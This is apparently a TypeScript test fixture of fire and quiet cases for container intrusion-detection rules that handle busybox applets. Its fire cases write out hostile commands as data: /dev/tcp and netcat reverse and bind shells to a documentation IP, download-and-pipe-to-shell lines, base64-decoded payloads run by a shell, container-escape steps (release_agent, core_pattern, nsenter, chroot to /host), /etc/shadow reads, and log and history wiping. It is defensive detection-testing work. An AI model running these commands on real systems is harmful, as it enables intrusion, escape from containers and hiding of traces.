// Busybox applets (issue 13): in busybox images every program is /bin/busybox, so the sensor
// reports `process.name: busybox`, `process.executable: /bin/busybox` and the applet in argv[0]
// as typed (`nsenter`, `/bin/mount`, or `busybox nsenter`); `process.command_line` is the args
// joined by spaces. Per rule: the applet form fires like the program, and a busybox process that
// merely names the program in a later argument (`grep nsenter`, `busybox echo nsenter`) does not.
// The three rules added with it (interactive shell anywhere, decoded payload piped to a shell,
// mount in a privileged container) have their whole case tables here. Merged into CASES.
import { type Doc, exec, netEv, type ProcSpec, patch } from '../../src/rules/test/helpers.fixture.js';
import type { RuleCases } from './cases.js';

/** The spec of a busybox applet process as the sensor reports it. */
const bbSpec = (args: string[], p: Partial<ProcSpec> = {}): ProcSpec => ({
  args,
  name: 'busybox',
  executable: '/bin/busybox',
  interactive: false,
  command_line: args.join(' '),
  ...p,
});
const bb = (args: string[], p: Partial<ProcSpec> = {}): Doc => exec(bbSpec(args, p));
const bbTty = (args: string[], p: Partial<ProcSpec> = {}): Doc => bb(args, { interactive: true, ...p });
/** A busybox exec without `process.command_line` (documents from another sensor, or a command line
 * Elasticsearch did not index): the rules fall back to any element of `process.args`. */
const bbNoCl = (args: string[], p: Partial<ProcSpec> = {}): Doc => {
  const { command_line: _, ...spec } = bbSpec(args, p);
  return exec(spec);
};
const x = (args: string[], p: Partial<ProcSpec> = {}): Doc => exec({ args, interactive: false, ...p });
const tty = (args: string[], p: Partial<ProcSpec> = {}): Doc => exec({ args, interactive: true, ...p });
const caps = (...c: string[]) => ({ thread: { capabilities: { effective: c, permitted: c } } });
const privileged = (d: Doc): Doc => patch(d, { container: { security_context: { privileged: true } } });
const ns = (d: Doc, namespace: string): Doc => patch(d, { orchestrator: { namespace } });
const listen = (port: number, p: ProcSpec): Doc =>
  netEv('listen', { destination: { ip: '0.0.0.0', port } }, p);
const connect = (ip: string, port: number, p: ProcSpec): Doc =>
  netEv('connection_attempted', { transport: 'tcp', destination: { ip, port } }, p);

export const BUSYBOX_CASES: Record<string, RuleCases> = {
  'c2de61c9-3a44-45b1-9992-b61f64f93416': {
    name: 'Remote File Download Tool Run in a Container',
    fire: [bb(['wget', '-qO-', 'http://203.0.113.7/x.sh']), bb(['busybox', 'wget', 'http://203.0.113.7/x'])],
    quiet: [
      bb(['grep', 'wget', 'http://203.0.113.7/notes']),
      bb(['wget', '-q', 'http://localhost:8080/healthz']),
    ],
  },
  '6cab67ed-f7c0-4bcc-893b-670b7b0e90fb': {
    name: 'Shell or Interpreter One-Liner Connecting Out of a Container',
    fire: [connect('203.0.113.7', 4444, bbSpec(['sh', '-i']))],
    quiet: [connect('203.0.113.7', 80, bbSpec(['wget', 'http://203.0.113.7/']))],
  },
  '8e7cbbb7-9ffa-472d-8c27-7e4f1abd47ea': {
    name: 'Network Configuration or Sniffing Tool with CAP_NET_ADMIN in a Non-Privileged Container',
    fire: [
      bb(['tc', 'qdisc', 'add', 'dev', 'eth0', 'root', 'netem', 'delay', '100ms'], caps('CAP_NET_ADMIN')),
    ],
    quiet: [
      bb(['grep', 'tc', '/etc/services'], caps('CAP_NET_ADMIN')),
      bb(['tc', 'qdisc', 'add'], caps('CAP_CHOWN')),
    ],
  },
  '2a57c911-96a7-4275-96df-2d1eeab77f01': {
    name: 'System Logs Deleted or Truncated in a Container',
    fire: [bb(['rm', '-f', '/var/log/messages']), bb(['/bin/truncate', '-s', '0', '/var/log/auth.log'])],
    quiet: [bb(['grep', '-r', 'rm', '/var/log/app.log']), bb(['cat', '/var/log/messages'])],
  },
  '719b9bc0-fbf5-425c-b043-a28689ceedd2': {
    name: 'Shell History Cleared or Disabled in a Container',
    fire: [bb(['rm', '/root/.ash_history']), bb(['ln', '-sf', '/dev/null', '/root/.ash_history'])],
    quiet: [bb(['cat', '/root/.ash_history']), bb(['grep', 'rm', '/root/.ash_history'])],
  },
  'd5c4f83e-3cb1-4fba-a2d9-95964c2cfcfd': {
    name: 'Container Environment Reconnaissance via cgroup or mountinfo',
    fire: [bb(['cat', '/proc/self/cgroup']), bb(['/bin/grep', 'docker', '/proc/1/cgroup'])],
    quiet: [bb(['wc', '-l', '/proc/self/cgroup']), bb(['ls', '/proc'])],
  },
  'dd9e4e67-653e-48b1-bc37-4b387e9a91ac': {
    name: 'Container Escape or Cluster Recon Toolkit Executed',
    fire: [bb(['sh', '/tmp/deepce.sh']), bb(['busybox', 'sh', '/tmp/linpeas.sh'])],
    // A download is the download rule's business, as it is for GNU wget.
    quiet: [bb(['wget', 'http://203.0.113.7/linpeas.sh'])],
  },
  '3bca3eea-2efb-47ce-89c7-92150600c47a': {
    name: 'Bind Shell Listening in a Container',
    fire: [
      listen(4444, bbSpec(['nc', '-lp', '4444', '-e', '/bin/sh'])),
      listen(2323, bbSpec(['telnetd', '-F', '-p', '2323', '-l', '/bin/sh'])),
    ],
    quiet: [listen(8080, bbSpec(['httpd', '-f', '-p', '8080', '-h', '/srv/nc']))],
  },
  '05353486-fe3e-4e37-a82a-4dadf9e51af8': {
    name: 'Remote Content Piped into a Shell or Interpreter in a Container',
    fire: [bb(['sh', '-c', 'wget -qO- http://203.0.113.7/i.sh | sh'])],
    quiet: [bb(['grep', '-c', 'curl http://x | sh', '/app/README'])],
  },
  '65696109-bfa9-43be-af1b-34419f2bf96c': {
    name: 'Interactive Shell in a Privileged Container',
    fire: [privileged(bbTty(['sh'])), privileged(bbTty(['/bin/ash', '-l']))],
    quiet: [privileged(bbTty(['ls', '-la'])), privileged(bb(['sh', '-c', 'true']))],
  },
  '82c782d4-b12d-4a45-a3b9-637300f65ca1': {
    name: 'Interactive Shell in a Production Kubernetes Namespace',
    fire: [ns(bbTty(['sh']), 'payments'), ns(bbTty(['-sh']), 'payments')],
    quiet: [ns(bbTty(['cat', '/etc/hostname']), 'payments')],
  },
  '6cc1436e-6cb9-4d9d-9d36-19ec8de72f6b': {
    name: 'Shell Upgraded to a PTY with a Scripting One-Liner',
    fire: [bb(['script', '-qc', '/bin/sh', '/dev/null'])],
    quiet: [bb(['script', '-q', '/tmp/session.log']), bb(['grep', '-c', 'script', '/dev/null'])],
  },
  '07538371-cecc-4c46-b332-871f46668f84': {
    name: 'Reverse Shell via /dev/tcp or /dev/udp Redirection',
    fire: [bb(['sh', '-c', 'sh -i >& /dev/tcp/203.0.113.7/4444 0>&1'])],
    quiet: [bb(['grep', '-r', '/dev/tcp/', '/etc'])],
  },
  'e54dbef8-7fe5-4291-867c-463e754861d2': {
    name: 'Netcat Executing a Program for a Remote Peer',
    fire: [
      bb(['nc', '203.0.113.7', '4444', '-e', '/bin/sh']),
      bb(['busybox', 'nc', '203.0.113.7', '4444', '-e', 'sh']),
      bbNoCl(['nc', '203.0.113.7', '4444', '-e', '/bin/sh']),
    ],
    quiet: [bb(['grep', '-e', 'nc', '/etc/services']), bb(['nc', '203.0.113.7', '80'])],
  },
  '3167cfff-6452-42e2-805f-b82bd75d9c17': {
    name: 'Shell with CAP_SYS_MODULE in a Non-Privileged Container',
    fire: [bb(['insmod', '/tmp/x.ko'], caps('CAP_SYS_MODULE')), bb(['sh'], caps('CAP_SYS_MODULE'))],
    quiet: [bb(['ls', '/lib/modules'], caps('CAP_SYS_MODULE'))],
  },
  'e96115dd-a6f3-4aae-a253-28a12ea01f4c': {
    name: 'Cron Job Created or Modified in a Container',
    fire: [bb(['crontab', '/tmp/evil.cron']), bb(['crontab', '-e'])],
    quiet: [bb(['crontab', '-l']), bb(['cat', 'crontab'])],
  },
  '9a7fef77-71ab-4957-9a17-99fe40976cc5': {
    name: 'Shell with CAP_DAC_READ_SEARCH in a Non-Privileged Container',
    fire: [bb(['sh', '-c', 'cat /etc/shadow'], caps('CAP_DAC_READ_SEARCH'))],
    quiet: [bb(['cat', '/etc/hostname'], caps('CAP_DAC_READ_SEARCH'))],
  },
  'c7f0ab56-b721-417a-96c5-5680e0af6c3f': {
    name: 'CAP_SYS_ADMIN Used by Namespace or Mount Tools in a Non-Privileged Container',
    fire: [
      bb(['unshare', '-m', 'true'], caps('CAP_SYS_ADMIN')),
      bb(['mount', '-t', 'tmpfs', 'none', '/mnt'], caps('CAP_SYS_ADMIN')),
      bb(['/bin/nsenter', '-t', '1', '-m'], caps('CAP_SYS_ADMIN')),
    ],
    quiet: [
      bb(['grep', 'mount', '/proc/mounts'], caps('CAP_SYS_ADMIN')),
      bb(['unshare', '-m', 'true'], caps('CAP_CHOWN')),
    ],
  },
  '798ef938-247a-4886-a773-1f5229374b4c': {
    name: 'cgroup release_agent or notify_on_release Written from a Container',
    fire: [bb(['tee', '/tmp/cgrp/release_agent'])],
    quiet: [bb(['cat', '/tmp/cgrp/release_agent'])],
  },
  '614096ac-1619-44b8-89b0-584fbb9c7eda': {
    name: 'Kernel core_pattern Changed from a Container',
    fire: [bb(['dd', 'of=/proc/sys/kernel/core_pattern'])],
    quiet: [bb(['cat', '/proc/sys/kernel/core_pattern'])],
  },
  '67ffb3e3-e661-49dc-9d46-7306e4cc91b4': {
    name: 'chroot Into a Host Filesystem Mount from a Container',
    fire: [bb(['chroot', '/host', 'sh'])],
    quiet: [bb(['ls', '/host']), bb(['chroot', '/srv/jail', 'sh'])],
  },
  '43ecfe9b-098f-4e64-ac18-ff34307d6010': {
    name: 'Host Block Device Mounted in a Privileged Container',
    fire: [privileged(bb(['mount', '/dev/vda', '/mnt'])), privileged(bb(['/bin/mount', '/dev/sda1', '/h']))],
    quiet: [privileged(bb(['ls', '-l', '/dev/vda'])), bb(['mount', '/dev/vda', '/mnt'])],
  },
  '0831ca98-df91-475d-a15e-5fdfc29d0695': {
    name: 'nsenter Into the Host Init Namespaces from a Container',
    fire: [
      bb(['nsenter', '--target', '1', '--mount', '--', 'true']),
      bb(['/bin/busybox', 'nsenter', '-t1', '-m', 'sh']),
      bbNoCl(['nsenter', '-t', '1', '-m']),
    ],
    quiet: [bb(['busybox', 'echo', 'nsenter', '-t', '1']), bb(['nsenter', '-t', '4242', '-n', 'ip', 'a'])],
  },
  '46e5a535-6e77-4235-9289-f0570742987e': {
    name: 'unshare Creating New User or Mount Namespaces in a Container',
    fire: [bb(['unshare', '-m', 'true']), bb(['busybox', 'unshare', '-Ur', 'sh'])],
    quiet: [bb(['grep', '-m', '1', 'unshare', '/etc/profile']), bb(['unshare', '-n', 'true'])],
  },
  '5d7a19b5-6273-4e9a-8f26-85dd2deb8ada': {
    name: 'Container Runtime Socket Used from a Container',
    fire: [bb(['nc', 'local:/var/run/docker.sock'])],
    quiet: [bb(['ls', '-l', '/var/run/docker.sock']), bb(['test', '-S', '/var/run/docker.sock'])],
  },
  '58201afd-12fc-4351-8662-38e8e8dcdcd0': {
    name: 'Host Filesystem Accessed Through /proc/1/root from a Container',
    fire: [bb(['cat', '/proc/1/root/etc/shadow'])],
    quiet: [bb(['ps', '/proc/1/root'])],
  },
  'c265f253-0af8-4fc4-b607-88831a046bfc': {
    name: 'Package Installed at Runtime in a Container',
    fire: [bb(['rpm', '-i', '/tmp/x.rpm'])],
    quiet: [bb(['rpm', '-qa'])],
  },
  '79ff923f-4517-44d6-a696-03d5a6ca304c': {
    name: 'Kernel Module Loaded from a Container',
    fire: [bb(['insmod', '/tmp/r.ko']), bb(['modprobe', 'nf_tables'])],
    quiet: [bb(['modprobe', '-r', 'x']), bb(['lsmod'])],
  },

  // Added with issue 13.
  '48c69ff3-8133-4d18-951e-5332861d03b2': {
    name: 'Interactive Shell Opened in a Container',
    fire: [bbTty(['sh']), bbTty(['-sh']), tty(['bash']), ns(tty(['/bin/sh', '-i']), 'team-dev')],
    quiet: [
      bb(['sh', '-c', 'echo ready']),
      bbTty(['ls', '-la']),
      tty(['python3']),
      patch(tty(['bash']), { container: undefined }),
    ],
  },
  'be551a7e-a642-4a5e-a7f3-6e910d23be29': {
    name: 'Decoded Payload Piped into a Shell or Interpreter in a Container',
    fire: [
      bb(['sh', '-c', 'echo ZWNobyBoaQ== | base64 -d | sh']),
      x(['bash', '-c', 'echo aWQ= | base64 --decode | bash -s']),
      x(['sh', '-c', 'echo 6964 | xxd -r -p | /usr/bin/python3']),
      x(['sh', '-c', 'eval "$(echo aWQ= | base64 -d)"']),
    ],
    quiet: [
      x(['sh', '-c', 'echo aGk= | base64 -d > /tmp/cfg']),
      x(['sh', '-c', 'base64 -d /run/key.b64 | tee /tmp/key; ls /usr/share']),
      bb(['grep', '-c', 'base64 -d | sh', '/app/README']),
      x(['sh', '-c', 'echo hi | base64 | sh']),
    ],
  },
  'aa3f6454-c0c0-4c6f-91bc-4e5a08d6a7e2': {
    name: 'Filesystem Mounted in a Privileged Container',
    fire: [
      privileged(bb(['mount', '-t', 'tmpfs', 'none', '/mnt'])),
      privileged(x(['mount', '-t', 'cgroup', '-o', 'rdma', 'cgroup', '/tmp/cg'])),
      privileged(bb(['busybox', 'mount', '/dev/vda', '/mnt'])),
    ],
    quiet: [
      privileged(bb(['mount'])),
      privileged(x(['mount', '-l'])),
      bb(['mount', '-t', 'tmpfs', 'none', '/mnt']),
      privileged(bb(['grep', 'mount', '/proc/mounts'])),
    ],
  },
};
